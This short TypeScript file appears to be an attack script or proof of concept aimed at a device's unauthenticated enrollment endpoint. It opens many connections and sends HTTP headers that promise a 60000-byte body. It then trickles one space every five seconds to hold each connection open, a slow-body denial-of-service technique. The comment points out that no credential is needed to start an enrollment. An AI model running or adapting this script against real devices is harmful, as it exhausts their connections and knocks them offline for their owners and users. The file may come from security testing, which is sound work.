import { args, inPlace, openMany } from './attacker.ts';

/* Enrollments whose bodies come byte by byte: no credential is needed to begin one. */
const { device, connections } = args();
const head = 'POST /device/v1/enroll HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n{';
await openMany(device, connections, (socket) => {
  socket.write(head);
  const timer = setInterval(() => socket.write(' '), 5000);
  socket.once('close', () => clearInterval(timer));
});
inPlace();
